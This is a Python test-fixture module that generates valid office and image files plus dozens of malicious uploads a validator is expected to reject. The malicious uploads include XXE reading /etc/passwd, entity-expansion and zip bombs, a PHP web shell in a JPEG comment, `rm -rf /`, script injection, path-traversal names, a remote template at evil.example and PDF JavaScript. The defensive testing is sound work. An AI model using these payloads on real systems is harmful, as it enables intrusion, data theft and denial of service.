"""Files made in code: plain ones of each kind, and 56 that must not get in."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass

CONTENT_TYPES = {
    "docx": ("/word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    "xlsx": ("/xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
}
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

Parts = Mapping[str, bytes]


def pdf(text: str = "A letter of the embassy", catalog: str = "", objects: tuple[str, ...] = ()) -> bytes:
    """One page with `text`, more in the catalogue, more objects from number 6 on."""
    stream = f"BT /F1 12 Tf 72 700 Td ({text}) Tj ET"
    bodies = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        f"<< /Length {len(stream)} >>\nstream\n{stream}\nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *objects,
    ]
    out, places = b"%PDF-1.4\n", []
    for number, body in enumerate(bodies, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    start = len(out)
    out += f"xref\n0 {len(bodies) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + f"trailer\n<< /Size {len(bodies) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()


def package(kind: str, parts: Parts, *, types: str = "", compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An Office package with a right list of content types unless `types` says otherwise."""
    name, content = CONTENT_TYPES[kind]
    listed = types or f'<Types><Override PartName="{name}" ContentType="{content}"/></Types>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as made:
        made.writestr("[Content_Types].xml", listed)
        for part, data in parts.items():
            made.writestr(part, data)
    return out.getvalue()


def docx(text: str = "Minutes of the meeting", more: Parts | None = None, *, head: str = "", types: str = "") -> bytes:
    document = (
        f'<?xml version="1.0"?>{head}<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'
    )
    return package("docx", {"word/document.xml": document.encode(), **(more or {})}, types=types)


def xlsx(text: str = "Hanoi", more: Parts | None = None, *, cell: str = "A1") -> bytes:
    cells = f'<c r="{cell}" t="s"><v>0</v></c><c r="B1"><v>4711</v></c>'
    sheet = f'<worksheet xmlns="{SHEET}"><sheetData><row r="1">{cells}</row></sheetData></worksheet>'
    parts = {
        "xl/workbook.xml": f'<workbook xmlns="{SHEET}"/>'.encode(),
        "xl/worksheets/sheet1.xml": sheet.encode(),
        "xl/sharedStrings.xml": f'<sst xmlns="{SHEET}"><si><t>{text}</t></si></sst>'.encode(),
    }
    return package("xlsx", parts | dict(more or {}))


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int = 1, height: int = 1, more: bytes = b"") -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + more + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b"")


def jpeg(width: int = 1, height: int = 1, comment: bytes = b"") -> bytes:
    said = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment if comment else b""
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    scan = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00\x00\x3f\x00" + b"\x12\xff\x00\x34\xff\xd0\x56"
    return b"\xff\xd8" + said + frame + scan + b"\xff\xd9"


def gif() -> bytes:
    return bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")


def webp(width: int = 1, height: int = 1) -> bytes:
    bits = (width - 1) | (height - 1) << 14
    body = b"WEBPVP8L" + struct.pack("<I", 5) + b"\x2f" + struct.pack("<I", bits) + b"\x00"
    return b"RIFF" + struct.pack("<I", len(body)) + body


def zipped(parts: Parts, comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in parts.items():
            made.writestr(name, data)
        made.comment = comment
    return out.getvalue()


GOOD: dict[str, bytes] = {
    "letter.pdf": pdf(),
    "minutes.docx": docx(),
    "list.XLSX": xlsx(),
    "scan.png": png(),
    "photo.jpg": jpeg(),
    "photo.jpeg": jpeg(640, 480, b"taken in Hanoi"),
    "moving.gif": gif(),
    "small.webp": webp(),
    "会谈纪要 2024.pdf": pdf("Talks"),
    "محضر الاجتماع.docx": docx("محضر"),
    "policja.pl.pdf": pdf("From an address"),
    "it's 50% #1 & more; v=2.pdf": pdf("Odd but plain"),
}

LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
XXE = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(document.cookie)</script>"
PROGRAM = b"MZ\x90\x00\x03" + bytes(200) + b"This program cannot be run in DOS mode"
SHELL = b"#!/bin/sh\nrm -rf /\n"
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)


def lying_bomb() -> bytes:
    """A part that says it is small and is not: 300 MB of zeros under a size of 1,000 bytes."""
    body = zipped({"word/document.xml": bytes(1000)})
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(squeezer.compress(bytes(1024 * 1024)) for _ in range(300)) + squeezer.flush()
    del body
    data = docx(more={"word/media.xml": b"x" * 1000})
    with zipfile.ZipFile(io.BytesIO(data)) as made:
        old = made.getinfo("word/media.xml")
    start = old.header_offset + 30 + len("word/media.xml")
    directory = data.index(b"PK\x01\x02", start)
    tail = bytearray(data[directory:])
    entry = tail.index(b"word/media.xml") - 46
    struct.pack_into("<I", tail, entry + 20, len(packed))
    end = len(tail) - 22
    struct.pack_into("<I", tail, end + 16, start + len(packed))
    head = bytearray(data[:start])
    struct.pack_into("<I", head, old.header_offset + 18, len(packed))
    return bytes(head) + packed + bytes(tail)


def bomb() -> bytes:
    """300 MB of zeros in a few hundred kilobytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as made:
        made.writestr("[Content_Types].xml", f'<Types><Override ContentType="{CONTENT_TYPES["docx"][1]}"/></Types>')
        with made.open("word/document.xml", "w") as part:
            for _ in range(300):
                part.write(bytes(1024 * 1024))
    return out.getvalue()


def two_parts_of_one_name() -> bytes:
    data = docx(more={"word/documenu.xml": b"<x/>"})
    return data.replace(b"word/documenu.xml", b"word/document.xml")


@dataclass(frozen=True)
class Bad:
    """A file that must not be stored, and what its message must say."""

    name: str
    make: Callable[[], bytes]
    says: str


def of(data: bytes) -> Callable[[], bytes]:
    return lambda: data


KINDS, OTHER, SIGNS, DOUBLE = "only PDF, DOCX", "not what its name says", "signs that no file name may hold", "ending of a program"
DAMAGED, HIDDEN, TWO, BOMB, MACROS = "damaged", "behind its end", "two kinds of file", "unpacks to far more", "macros"
XML, ACTIVE, PLAIN = "declarations that Office files do not have", "scripts, other files", "not a plain Word document"

BAD: tuple[Bad, ...] = (
    # wrong ending, wrong content
    Bad("program.exe", of(PROGRAM), KINDS),
    Bad("program.pdf", of(PROGRAM), OTHER),
    Bad("page.html", of(HTML), KINDS),
    Bad("page.png", of(HTML), OTHER),
    Bad("drawing.svg", of(SVG), KINDS),
    Bad("drawing.png", of(SVG), OTHER),
    Bad("script.jpg", of(SHELL), OTHER),
    Bad("archive.zip", of(zipped({"a.txt": b"a"})), KINDS),
    Bad("archive.docx", of(zipped({"a.txt": b"a"})), PLAIN),
    Bad("picture.pdf", of(png()), OTHER),
    Bad("letter.png", of(pdf()), OTHER),
    Bad("old.doc", of(OLE), KINDS),
    Bad("old.docx", of(OLE), OTHER),
    Bad("sheet.docx", of(xlsx()), PLAIN),
    Bad("text.xlsx", of(docx()), PLAIN),
    Bad("notes.txt", of(b"plain"), KINDS),
    Bad("none", of(pdf()), "lacks its kind"),
    Bad(".pdf", of(pdf()), "lacks its kind"),
    Bad("empty.pdf", of(b""), "empty"),
    # names
    Bad("../../etc/passwd.pdf", of(pdf()), SIGNS),
    Bad("..\\..\\windows\\letter.pdf", of(pdf()), SIGNS),
    Bad("/etc/letter.pdf", of(pdf()), SIGNS),
    Bad("nul\x00.pdf", of(pdf()), SIGNS),
    Bad("tab\tulator.pdf", of(pdf()), SIGNS),
    Bad("letter\u202efdp.exe.pdf", of(pdf()), SIGNS),
    Bad("zero\u200bwidth.pdf", of(pdf()), SIGNS),
    Bad("<img src=x onerror=alert(1)>.pdf", of(pdf()), SIGNS),
    Bad("pipe|.pdf", of(pdf()), SIGNS),
    Bad(f"{'x' * 300}.pdf", of(pdf()), "too long"),
    Bad("letter.exe.pdf", of(pdf()), DOUBLE),
    Bad("letter.php.jpg", of(jpeg()), DOUBLE),
    Bad("letter.pdf.exe", of(pdf()), KINDS),
    Bad("letter.pdf.", of(pdf()), KINDS),
    # two kinds at once
    Bad("both.pdf", of(pdf() + zipped({"a": b"a"})), TWO),
    Bad("both.png", of(png() + zipped({"a": b"a"})), TWO),
    Bad("tail.png", of(png() + b"hidden"), HIDDEN),
    Bad("tail.jpg", of(jpeg() + PROGRAM), HIDDEN),
    Bad("tail.gif", of(gif() + b"hidden"), HIDDEN),
    Bad("tail.pdf", of(pdf() + PROGRAM), HIDDEN),
    Bad("page.gif", of(gif()[:-1] + b"\x21\xfe\x08<script>\x00\x3b"), TWO),
    Bad("php.jpg", of(jpeg(comment=b"<?php system($_GET['c']); ?>")), TWO),
    Bad("pdf.jpg", of(jpeg(comment=pdf())), TWO),
    Bad("prefixed.docx", of(SHELL + docx()), OTHER),
    # broken and huge
    Bad("cut.png", of(png()[:-6]), DAMAGED),
    Bad("cut.docx", of(docx()[:-30]), DAMAGED),
    Bad("cut.pdf", of(pdf()[:200]), DAMAGED),
    Bad("flood.png", of(png(60_000, 60_000)), "million pixels"),
    Bad("bomb.docx", bomb, BOMB),
    Bad("lying.docx", lying_bomb, DAMAGED),
    Bad("entries.docx", lambda: docx(more={f"word/{number}.txt": b"" for number in range(20_000)}), BOMB),
    Bad("twice.docx", two_parts_of_one_name, DAMAGED),
    # what runs, and what reaches out
    Bad("macros.docx", of(docx(more={"word/vbaProject.bin": OLE})), MACROS),
    Bad("laughs.docx", of(docx("&i;", head=LAUGHS)), XML),
    Bad("outside.docx", of(docx("&f;", head=XXE)), XML),
    Bad(
        "template.docx",
        of(
            docx(
                more={
                    "word/_rels/settings.xml.rels": f'<Relationships xmlns="{RELS}"><Relationship Id="r1" Type="{OFFICE}/attachedTemplate" '
                    'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'.encode()
                }
            )
        ),
        ACTIVE,
    ),
    Bad("script.pdf", of(pdf(catalog="/OpenAction 6 0 R", objects=("<< /S /JavaScript /JS (app.alert(1)) >>",))), ACTIVE),
)
